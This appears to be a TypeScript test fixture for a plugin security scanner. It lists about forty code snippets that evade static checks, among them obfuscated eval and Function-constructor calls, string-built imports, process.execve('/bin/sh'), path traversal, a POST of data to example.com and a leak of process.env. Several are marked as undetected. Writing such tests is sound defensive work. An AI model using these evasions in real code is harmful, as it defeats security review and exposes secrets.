// Ways to reach what no policy allows. Each is code of a plugin that nothing is allowed to; `found` is the rule that sees it,
// and without it nothing does.
import type { ScanRule } from '../../src/trust.ts';

export interface Evasion {
  readonly title: string;
  readonly code: string;
  readonly found?: ScanRule;
  /** @default index.js */
  readonly file?: string;
  readonly others?: Readonly<Record<string, string>>;
}

export const evasions: readonly Evasion[] = [
  { title: 'an import that is put together', code: `await import('node:f' + 's');`, found: 'dynamic-import' },
  { title: 'an import in a template', code: '`${await import(name)}`;', found: 'dynamic-import' },
  { title: 'an import with escapes', code: String.raw`import 'node:\u0066s';`, found: 'builtin' },
  { title: 'eval at one remove', code: `(0, eval)('1');`, found: 'eval' },
  { title: 'eval with escapes', code: String.raw`\u0065val('1');`, found: 'eval' },
  { title: 'eval by a computed name', code: `globalThis['ev' + 'al']('1');`, found: 'computed-global' },
  { title: 'eval by a name in brackets', code: `globalThis['eval']('1');`, found: 'eval' },
  { title: 'eval by Reflect', code: `Reflect.get(globalThis, 'ev' + 'al')('1');`, found: 'computed-global' },
  { title: 'new Function', code: `new Function('return process')();`, found: 'eval' },
  { title: 'the constructor of a function', code: `(() => {}).constructor('return process')();`, found: 'eval' },
  {
    title: 'the constructor of a method, in brackets',
    code: `[].flat['constructor']('return process')();`,
    found: 'eval',
  },
  {
    title: 'the constructor of an asynchronous function',
    code: `Object.getPrototypeOf(async () => {}).constructor('await 1')();`,
    found: 'eval',
  },
  {
    title: 'the constructor of a constructor',
    code: `({}).constructor.constructor('return process')();`,
    found: 'eval',
  },
  { title: 'the constructor, kept', code: `const f = () => {}; const make = f.constructor; make('1')();` },
  { title: 'the constructor, taken apart', code: `const { constructor: make } = () => {}; make('1')();` },
  {
    title: 'the constructor by a computed name',
    code: `const n = ['con', 'structor'].join(''); (() => {})[n]('1')();`,
  },
  { title: 'a module of Node from process', code: `process.getBuiltinModule('fs');`, found: 'process-internals' },
  { title: 'the same, taken apart', code: `const { getBuiltinModule: load } = process;`, found: 'process-internals' },
  { title: 'the same by a computed name', code: `process['getBuiltin' + 'Module']('fs');`, found: 'computed-global' },
  { title: 'the same from another name of process', code: `const p = process; p['getBuiltin' + 'Module']('fs');` },
  { title: 'the inside of Node', code: `process.binding('spawn_sync');`, found: 'process-internals' },
  { title: 'another program in place of this one', code: `process.execve('/bin/sh');`, found: 'process-internals' },
  {
    title: 'the loader of CommonJS',
    code: `module.constructor._load('fs');`,
    found: 'process-internals',
    file: 'index.cjs',
  },
  {
    title: 'require of something computed',
    code: `require(['f', 's'].join(''));`,
    found: 'require',
    file: 'index.cjs',
  },
  { title: 'require under another name', code: `const r = require; r('fs');`, found: 'require', file: 'index.cjs' },
  {
    title: 'the global object as this',
    code: `(function () { return this; })()['ev' + 'al']('1');`,
    file: 'index.cjs',
  },
  {
    title: 'a module of Node behind a mapped name',
    code: `import '#files';`,
    found: 'builtin',
    others: { 'package.json': '{"name":"evil","imports":{"#files":{"node":"fs","default":"./a.js"}}}' },
  },
  { title: 'a path that leads out in another spelling', code: `import './%2e%2e/evil.js';`, found: 'outside' },
  { title: 'code in a URL', code: `import 'data:text/javascript,1';`, found: 'outside' },
  {
    title: 'machine code under its own ending',
    code: `require('./addon.node');`,
    found: 'native-addon',
    file: 'index.cjs',
    others: { 'addon.node': '' },
  },
  {
    title: 'code under the ending of a text',
    code: `require('./notes.txt');`,
    found: 'unreadable',
    file: 'index.cjs',
    others: { 'notes.txt': `require('fs')` },
  },
  {
    title: 'code that looks like a regular expression',
    code: `const x = function () {} / eval('1') / 1;`,
    found: 'eval',
  },
  { title: 'code that looks like a text', code: `if (x) {} /'/.test(''); eval('1'); /'/;`, found: 'eval' },
  { title: 'the same behind a step', code: `x\n++/'/.lastIndex; eval('1'); /'/;`, found: 'eval' },
  { title: 'a comment of HTML', code: `<!-- /*\neval('1');\n// */`, found: 'unreadable', file: 'index.cjs' },
  { title: 'the network, which is a global', code: `fetch('https://example.com', { method: 'POST', body: data });` },
  { title: 'the environment, which is a global', code: `leak(process.env);` },
  { title: 'a changed prototype that the host uses', code: `Promise.prototype.then = function () {};` },
  { title: 'the frames of an error', code: `Error.prepareStackTrace = (_, frames) => frames.at(-1).getFunction();` },
];
